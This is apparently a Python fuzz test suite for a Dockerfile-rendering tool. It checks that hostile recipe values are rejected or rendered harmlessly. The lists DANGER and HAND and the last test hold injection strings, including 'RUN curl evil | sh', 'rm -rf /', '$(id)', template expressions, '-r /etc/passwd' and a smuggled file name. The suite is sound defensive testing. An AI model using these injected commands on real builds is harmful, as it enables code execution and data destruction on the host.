"""Hostile values in every recipe field that reaches a Dockerfile: rejected with one `file:key` line, or harmless.

Each value goes into one field of an otherwise good recipe, written to a file and read back through the loader
(`expand_file` + `resolve`, or the full CLI for a few hundred cases). Then either
- it is rejected: a RecipeError whose text is one line, starting ``recipes/f.yaml:[line:]`` and naming the
  field's key, or
- it is accepted: the value uses only characters that cannot open an instruction, a shell word or a template
  expression, and the rendered Dockerfile has the same lines and instructions as with a good value, no control or
  line-separator characters, and not one more ``$(``, backtick, ``&&``, ``;``, ``|`` or ``{{`` than the good one.
"""

from __future__ import annotations

import copy
import re
from collections import Counter
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from trainimg.cli.app import main
from trainimg.recipe.compat import load_compat
from trainimg.errors import RecipeError
from trainimg.plan.stages import make_plan
from trainimg.recipe.loading import expand_file, load_recipes, resolve
from trainimg.render.dockerfile import render_plan

SHOWN = "recipes/f.yaml"
PARENT = "pytorch-2.14.1-cu130-py3.12"

CPU = {"framework": "pytorch", "version": "2.13.0", "os": "debian12", "python": "3.11",
       "extras": ["numpy==2.1.3"], "labels": {"team": "ml"}}
GPU = {"framework": "pytorch", "version": "2.14.1", "cuda": "13.0", "os": "ubuntu24.04", "python": "3.12",
       "repository": "acme/gpu", "extras": ["numpy==2.1.3"], "labels": {"team": "ml"}}
CHILD = {"extends": PARENT, "name": "child", "extras": ["numpy==2.1.3"], "labels": {"team": "ml"}}


def _set(base: dict, key: str):
    def put(value):
        doc = copy.deepcopy(base)
        doc[key] = value
        return doc
    return put


def _label_key(value):
    doc = copy.deepcopy(CPU)
    doc["labels"] = {value if not isinstance(value, (list, dict)) else repr(value): "ml"}  # keys are hashable
    return doc


def _label_value(value):
    doc = copy.deepcopy(CPU)
    doc["labels"] = {"team": value}
    return doc


def _extra(value):
    doc = copy.deepcopy(CPU)
    doc["extras"] = [value]
    return doc


def _child_extra(value):
    doc = copy.deepcopy(CHILD)
    doc["extras"] = [value]
    return doc


def _matrix_version(value):
    doc = copy.deepcopy(CPU)
    del doc["version"]
    doc["matrix"] = {"version": [value]}
    return doc


# field -> (doc for a value, keys an error may name, a good value)
FIELDS = {
    "version": (_set(CPU, "version"), {"version"}, "2.13.0"),
    "matrix.version": (_matrix_version, {"matrix.version"}, "2.13.0"),
    "python": (_set(CPU, "python"), {"python"}, "3.11"),
    "cuda": (_set(GPU, "cuda"), {"cuda", "os"}, "13.0"),  # null: a CPU variant, on an OS without one
    "nccl": (_set(GPU, "nccl"), {"nccl"}, "2.30.7"),
    "hypertune": (_set(CPU, "hypertune"), {"hypertune"}, "0.1.0.dev6"),
    "extras": (_extra, {"extras"}, "numpy==2.1.3"),
    "label_key": (_label_key, {"labels"}, "team"),
    "label_value": (_label_value, {"labels"}, "ml"),
    "name": (_set(CPU, "name"), {"name"}, "mine"),
    "repository": (_set(CPU, "repository"), {"repository"}, "trainimg/pytorch"),
    "base_image": (_set(CPU, "base_image"), {"base_image"}, "debian:bookworm-slim"),
    "extends": (_set(CHILD, "extends"), {"extends"}, PARENT),
    "child_name": (_set(CHILD, "name"), {"name", "extends"}, "child"),
    "child_repository": (_set(CHILD, "repository"), {"repository"}, "acme/child"),
    "child_extras": (_child_extra, {"extras"}, "numpy==2.1.3"),
    "framework": (_set(CPU, "framework"), {"framework", "version"}, "pytorch"),
    "os": (_set(CPU, "os"), {"os", "python"}, "debian12"),
    "flavour": (_set(GPU, "flavour"), {"flavour", "cudnn"}, "base"),
}

DANGER = ["\n", "\r", "\r\n", "\x00", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\t", " && id", ";id", "|id",
          "$(id)", "`id`", "${HOME}", "$HOME", "'", '"', "{{ 7*7 }}", "{% if 1 %}x{% endif %}", "{#", "\\",
          "\\\n", " --mount=type=bind,source=/,target=/h", "\nRUN curl x | sh", "\nFROM scratch", " #", "#"]

HAND: list[object] = [
    "", " ", "\n", "\r", "\r\n", "a\nb", "2.13.0\n", "2.13.0\r", "\n2.13.0", "2.13.0\nRUN curl evil | sh",
    "x && rm -rf /", "2.13.0 && id", "2.13.0;id", "; id", "|id", "2.13.0|id", "$(id)", "2.13.0$(id)", "${HOME}",
    "$HOME", "`id`", "2.13.0`id`", "'", '"', "2.13.0'", '2.13.0"', "'; id; '", '"; id; "', "{{ 7*7 }}", "{{7*7}}",
    "{% raw %}", "{% for x in y %}{% endfor %}", "{#", "#", "# comment", "\\", "2.13.0\\", "a\\\nRUN x", "\x00",
    "2.13.0\x00", "\u2028", "2.13.0\u2028RUN x", "\u2029", "\x85", "\x0b", "\x0c", "\t", "2.13.0\tRUN", "a" * 10000,
    "1" * 300, "2." * 200 + "0", "a" * 40 + "!", "--mount=type=bind,source=/,target=/host",
    "2.13.0 --mount=type=secret,id=x", "RUN x", "FROM y", "FROM scratch AS image", "\nFROM y", "ARG X=1",
    "ONBUILD RUN x", "LABEL a=b", "é", "２.１３", "٢.١٣.٠", "2.13.0\u200b", "\ufeff2.13.0", "ǅ", "numpy==2.1.3\n",
    "numpy==2.1.3; id", "numpy==2.1.3 && id", "numpy==2.1.3 --index-url http://evil", "-r /etc/passwd",
    "--index-url=http://evil", "numpy @ file:///etc", "git+https://x/y", "../../etc/passwd", "/etc/passwd",
    "nvidia/cuda:13.0.3-base-ubuntu24.04\nRUN x", "debian:bookworm-slim && id", "debian:bookworm-slim\r",
    "debian:bookworm-slim\n", "debian:bookworm-slim:latest", "debian:" + "a" * 200, "debian:ü", "trainimg.x",
    "org.opencontainers.image.title", "-", ".", "..", "a b", "A", "*", "?", "[", "]", "<", ">", "&", "%", "!", "~",
    "2.13.0", "2.14.1", "1!2.13.0", "2.13.0+local", "2.13.0.dev1", "2.13.0rc1", "3.11", "3.1", "3.12", "13.0",
    "12.5", "2.30.7", "2.6", "0.1.0.dev6", "numpy==2.1.3", "NumPy==2.1.3", "numpy[x]==1", "torch==2.13.0", "team",
    "ml", "a (b) c=d, e:f/g@h+i", "debian:bookworm-slim", "trainimg/x", "trainimg//x", "trainimg/x/", PARENT,
    "child", "runtime", "devel", "none", "jax", "ubuntu22.04", "ubuntu24.04",
    True, False, None, 0, -1, 3.14, 1e308, [], {}, ["x"], {"a": "b"},
]

# Characters an accepted value may hold: none of them starts a shell word, a quote, a comment or a template.
SAFE_VALUE = re.compile(r"[A-Za-z0-9._:/@+=,()\[\]! -]*")
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f\x85\u2028\u2029]")
COUNTED = ("$(", "`", "&&", ";", "|", "{{", "{%", "{#", "${")


@pytest.fixture(scope="module")
def env(tmp_path_factory):
    root = tmp_path_factory.mktemp("fuzz")
    parent_dir = root / "parent" / "recipes"
    parent_dir.mkdir(parents=True)
    base = {k: v for k, v in GPU.items() if k not in ("extras", "labels", "repository")}
    (parent_dir / "a-parent.yaml").write_text(yaml.safe_dump(base), encoding="utf-8")
    parents = load_recipes(parent_dir).variants
    assert [p.name for p in parents] == [PARENT]
    (root / "recipes").mkdir()
    return {"root": root, "parents": parents, "compat": load_compat(), "baselines": {}, "count": Counter()}


_Dumper = getattr(yaml, "CSafeDumper", yaml.SafeDumper)
_Loader = getattr(yaml, "CSafeLoader", yaml.SafeLoader)


def _dump(doc: object) -> str:
    text = yaml.dump(doc, Dumper=_Dumper, allow_unicode=False, width=1 << 30)
    assert yaml.load(text, Loader=_Loader) == doc  # the loader reads back exactly the hostile value
    return text


def _write(root: Path, doc: object) -> Path:
    text = _dump(doc)
    path = root / "recipes" / "f.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def _load(env, doc):
    """The loader's path for one file: expand, resolve, resolve children, check the set. Returns (variant, plan)."""
    path = _write(env["root"], doc)
    compat = env["compat"]
    variants = resolve(expand_file(path, SHOWN), compat, env["parents"])
    ours = [v for v in variants if v.source == SHOWN]
    assert len(ours) == 1
    v = ours[0]
    by_name = {x.name: x for x in variants}
    return v, make_plan(v, compat, by_name.get(v.extends or ""))


def _instructions(text: str) -> list[str]:
    out, cont = [], False
    for line in text.split("\n"):
        if not cont and line.startswith("#"):
            continue
        if not cont and line.strip():
            out.append(line.split(" ", 1)[0])
        cont = line.endswith("\\")
    return out


def _baseline(env, field: str) -> str:
    if field not in env["baselines"]:
        make, _, good = FIELDS[field]
        _, plan = _load(env, make(good))
        env["baselines"][field] = render_plan(plan)
    return env["baselines"][field]


def _check_rejected(err: str, field: str) -> None:
    keys = FIELDS[field][1]
    assert "\n" not in err and len(err.splitlines()) == 1, repr(err)
    assert CONTROL.search(err) is None, repr(err)
    assert err.startswith(f"{SHOWN}:"), err
    assert any(re.match(rf"{re.escape(SHOWN)}:([0-9]+:)?{re.escape(k)}: ", err) for k in keys), (field, err)


def _check_accepted(env, field: str, value: object, text: str) -> None:
    base = _baseline(env, field)
    assert CONTROL.search(text) is None, (field, value)
    if not isinstance(value, str):  # null and friends may drop a block (hypertune: null): no shape to compare
        assert set(_instructions(text)) <= set(_instructions(base)), (field, value)
        assert all(text.count(token) <= base.count(token) for token in COUNTED), (field, value)
        return
    assert SAFE_VALUE.fullmatch(value), (field, value)
    lines = text.split("\n")
    assert len(lines) == len(base.split("\n")) == len(text.splitlines()) + 1, (field, value)
    assert _instructions(text) == _instructions(base), (field, value)
    for token in COUNTED:
        assert text.count(token) == base.count(token), (field, value, token)
    assert "\\ " not in text.replace("\\ \\", "")  # no escaped space the value smuggled in
    for line in lines:
        if line.startswith(("ARG BASE_IMAGE=", "ARG PARENT_IMAGE=")):
            assert " " not in line.split("=", 1)[1], line


def try_value(env, field: str, value: object) -> str:
    """Run one value through the loader and check the outcome; returns 'rejected' or 'accepted'."""
    make = FIELDS[field][0]
    env["count"][field] += 1
    try:
        _, plan = _load(env, make(value))
    except RecipeError as exc:
        _check_rejected(str(exc), field)
        return "rejected"
    _check_accepted(env, field, value, render_plan(plan))
    return "accepted"


def test_hand_list_in_every_field(env):
    outcomes = Counter()
    for field in FIELDS:
        for value in HAND:
            outcomes[try_value(env, field, value)] += 1
    assert sum(outcomes.values()) == len(FIELDS) * len(HAND) >= 1000
    assert outcomes["accepted"] >= len(FIELDS)  # each field's good value, at least


def test_dangerous_suffixes_after_good_values(env):
    n = 0
    for field, (_, _, good) in FIELDS.items():
        for d in DANGER:
            for value in (good + d, d + good, good + d + good):
                outcome = try_value(env, field, value)
                assert outcome == "rejected" or SAFE_VALUE.fullmatch(value), (field, value)
                n += 1
    assert n >= 1000


_near_valid = st.from_regex(r"[0-9a-z.:/@+=,()\[\]!_ A-Z-]{0,24}", fullmatch=True)
_hostile = st.one_of(
    st.text(max_size=30),
    _near_valid,
    st.builds(lambda good, d, tail: good + d + tail,
              st.sampled_from([g for _, _, g in FIELDS.values()]), st.sampled_from(DANGER), st.text(max_size=8)),
    st.builds(lambda head, d, tail: head + d + tail, _near_valid, st.sampled_from(DANGER), _near_valid),
)


def test_hypothesis_values(env):
    before = sum(env["count"].values())

    @settings(max_examples=1000, derandomize=True, database=None, deadline=None,
              suppress_health_check=list(HealthCheck))
    @given(field=st.sampled_from(sorted(FIELDS)), value=_hostile)
    def one(field, value):
        try_value(env, field, value)

    one()
    assert sum(env["count"].values()) - before >= 1000


# --- the full CLI path --------------------------------------------------------------------------------------------

CLI_FIELDS = ("version", "python", "extras", "label_key", "label_value", "name", "base_image", "extends",
              "nccl", "repository")


@pytest.fixture(scope="module")
def cli_root(tmp_path_factory):
    root = tmp_path_factory.mktemp("fuzzcli")
    (root / "recipes").mkdir()
    base = {k: v for k, v in GPU.items() if k not in ("extras", "labels", "repository")}
    (root / "recipes" / "a-parent.yaml").write_text(yaml.safe_dump(base), encoding="utf-8")
    return root


def test_cli_path(cli_root, env, capsys):
    n = Counter()
    for field in CLI_FIELDS:
        for value in HAND[:24] + ["2.13.0", "numpy==2.1.3", "ml", "team", PARENT, "mine", "trainimg/x"]:
            doc = FIELDS[field][0](value)
            (cli_root / "recipes" / "f.yaml").write_text(_dump(doc), encoding="utf-8")
            capsys.readouterr()
            rc = main(["--recipes", str(cli_root / "recipes"), "validate"])
            out, err = capsys.readouterr()
            if rc != 0:
                assert rc == 2, (field, value, err)
                lines = err.splitlines()
                assert len(lines) == 1, (field, value, err)
                _check_rejected(lines[0], field)
                n["rejected"] += 1
                continue
            assert err == ""
            out_dir = cli_root / "out"
            assert main(["--recipes", str(cli_root / "recipes"), "render", "--output", str(out_dir)]) == 0
            capsys.readouterr()
            files = sorted(out_dir.glob("images/*/Dockerfile"))
            ours = [p for p in files if f"from {SHOWN} " in p.read_text(encoding="utf-8").split("\n", 1)[0]]
            assert len(ours) == 1, files
            _check_accepted(env, field, value, ours[0].read_text(encoding="utf-8"))
            for p in files:
                p.unlink()
            n["accepted"] += 1
    assert sum(n.values()) >= 200 and n["accepted"] >= len(CLI_FIELDS) and n["rejected"] >= 200


def test_recipe_file_name_cannot_open_an_instruction(tmp_path, capsys):
    d = tmp_path / "recipes"
    d.mkdir()
    evil = d / "x.yaml\nRUN curl evil | sh\n#.yaml"
    evil.write_text(yaml.safe_dump({k: v for k, v in CPU.items()}), encoding="utf-8")
    rc = main(["--recipes", str(d), "validate"])
    err = capsys.readouterr().err.splitlines()
    assert rc == 2 and len(err) == 1 and "rename the file" in err[0], err
